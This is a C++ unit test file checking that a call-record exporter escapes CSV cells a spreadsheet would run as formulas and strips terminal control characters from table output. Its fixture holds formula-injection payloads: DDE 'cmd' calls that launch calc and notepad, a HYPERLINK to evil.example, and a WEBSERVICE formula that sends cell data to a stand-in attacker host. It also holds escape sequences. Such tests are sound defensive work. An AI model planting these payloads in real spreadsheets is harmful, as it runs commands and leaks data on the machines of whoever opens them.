// The record writers on their own: CSV cells a spreadsheet would run as
// formulas, and control characters in the table.

#include <callbridge/record_writer.hpp>

#include "support/fixtures.hpp"

#include <sstream>

using namespace callbridge;
using namespace callbridge::test;

namespace {

// A call whose vendor text is each a formula, as an attacker (or anyone who
// can name an agent or leave a transcript) would write it.
CallRecord hostile_call() {
    CallRecord r;
    r.source = "main";
    r.provider = "autocalls";
    r.id = "-1";
    r.provider_status = "@SUM(1+1)*cmd|' /C calc'!A0";
    r.agent.name = "=HYPERLINK(\"https://evil.example\",\"click\")";
    r.agent.label = "\tlabel";
    r.campaign = CampaignRef{"7", "+1+cmd|' /C notepad'!A0"};
    r.customer_number = "+15551234567";
    r.transcript = "\r=1+1";
    r.duration_s = 42;
    r.created_at = utc(2025, 8, 4, 12, 0, 0);
    r.updated_at = r.created_at;
    r.carrier_cost = Decimal::parse("-0.01");
    r.total_cost = Decimal::parse("-0.03");  // a refund
    r.recording_url = "-https://x.example/r.mp3";
    r.summary = "=WEBSERVICE(\"https://evil.example/\"&A1)";
    return r;  // (started_at, ended_at, end_reason and currency: empty)
}

std::string csv_row(const CallRecord& record, WriterOptions options = {}) {
    std::ostringstream out;
    make_record_writer(OutputFormat::csv, out, options)->write(record);
    const std::string text = out.str();
    return text.substr(text.find("\r\n") + 2);
}

}  // namespace

TEST_SUITE("model") {

TEST_CASE("CSV: text cells starting with = + - @ tab or CR get a leading quote and numbers stay numbers") {
    CHECK(csv_row(hostile_call()) ==
          "main,autocalls,'-1,,outbound,unknown,'@SUM(1+1)*cmd|' /C calc'!A0,,,,"
          "\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"click\"\")\",'\tlabel,7,'+1+cmd|' /C notepad'!A0,,"
          "'+15551234567,42,2025-08-04T12:00:00Z,2025-08-04T12:00:00Z,\"'\r=1+1\",{},,,-0.01,-0.03,"
          "'-https://x.example/r.mp3,false,,,,\"'=WEBSERVICE(\"\"https://evil.example/\"\"&A1)\",\r\n");
}

TEST_CASE("CSV: keep_formulas writes every cell as it is") {
    CHECK(csv_row(hostile_call(), {.keep_formulas = true}) ==
          "main,autocalls,-1,,outbound,unknown,@SUM(1+1)*cmd|' /C calc'!A0,,,,"
          "\"=HYPERLINK(\"\"https://evil.example\"\",\"\"click\"\")\",\tlabel,7,+1+cmd|' /C notepad'!A0,,"
          "+15551234567,42,2025-08-04T12:00:00Z,2025-08-04T12:00:00Z,\"\r=1+1\",{},,,-0.01,-0.03,"
          "-https://x.example/r.mp3,false,,,,\"=WEBSERVICE(\"\"https://evil.example/\"\"&A1)\",\r\n");
}

TEST_CASE("Table: C1 controls DEL and C0 controls are shown as spaces") {
    CallRecord r = hostile_call();
    r.id = "a\x1B[2Jb";
    r.agent.name = "x\xC2\x9B" "31m\xC2\x9D" "0;t\xC2\x9C\x7Fy";
    std::ostringstream out;
    make_record_writer(OutputFormat::table, out)->write(r);
    const std::string table = out.str();
    CHECK(table.find("a [2Jb ") != std::string::npos);
    CHECK(table.find("x 31m 0;t  y ") != std::string::npos);
    CHECK(table.find('\x1B') == std::string::npos);
    CHECK(table.find('\x7F') == std::string::npos);
    CHECK(table.find("\xC2\x9B") == std::string::npos);
}

TEST_CASE("CSV and table: columns picks and orders the columns - neutralised cells stay neutralised") {
    std::ostringstream csv;
    auto writer = make_record_writer(OutputFormat::csv, csv, {.columns = {"total_cost", "id", "summary"}});
    writer->write(hostile_call());
    CHECK(csv.str() == "total_cost,id,summary\r\n-0.03,'-1,\"'=WEBSERVICE(\"\"https://evil.example/\"\"&A1)\"\r\n");

    std::ostringstream table;
    auto rows = make_record_writer(OutputFormat::table, table, {.columns = {"cost", "id"}});
    rows->write(hostile_call());
    rows->finish();
    CHECK(table.str() == "      COST  ID\n     -0.03  -1\n(1 call)\n");

    // The names are the CSV header's and the table's own.
    const auto csv_names = output_columns(OutputFormat::csv);
    CHECK(csv_names.size() == 32);
    CHECK(csv_names.front() == "source");
    CHECK(csv_names.back() == "currency");
    CHECK(output_columns(OutputFormat::table).size() == 9);
    CHECK(output_columns(OutputFormat::jsonl).empty());
    std::ostringstream header;
    make_record_writer(OutputFormat::csv, header);
    std::string joined;
    for (auto name : csv_names) joined += (joined.empty() ? "" : ",") + std::string(name);
    CHECK(header.str() == joined + "\r\n");

    std::ostringstream unused;
    CHECK_THROWS_AS(make_record_writer(OutputFormat::csv, unused, {.columns = {"id", "cost"}}), std::invalid_argument);
    CHECK_THROWS_AS(make_record_writer(OutputFormat::table, unused, {.columns = {"created_at"}}), std::invalid_argument);
}

}  // TEST_SUITE
